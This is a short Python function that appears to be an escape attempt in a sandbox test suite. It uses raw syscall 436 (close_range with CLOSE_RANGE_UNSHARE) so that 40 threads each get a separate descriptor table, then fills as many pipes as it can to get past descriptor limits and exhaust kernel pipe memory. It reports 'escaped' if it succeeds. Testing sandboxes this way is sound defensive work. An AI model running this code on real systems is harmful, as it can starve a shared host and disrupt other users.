# Attempts: give each thread a table of descriptors of its own (CLOSE_RANGE_UNSHARE), and fill pipes in all of them.

def attack(world):
    import ctypes, fcntl, os, threading
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    held, room, done = [], bytes(1 << 16), threading.Event()
    def hold():
        if libc.syscall(436, ctypes.c_uint(1 << 20), ctypes.c_uint(0xFFFFFFFF), 2) == 0:
            try:
                while True:
                    reader, writer = os.pipe()
                    os.set_blocking(writer, False)
                    held.append(os.write(writer, room))
            except OSError:
                pass
        done.wait(5)
    for _ in range(40):
        threading.Thread(target=hold, daemon=True).start()
    for _ in range(20):
        if len(held) > 100:
            return "escaped", len(held)
        done.wait(0.002)
    return len(held)
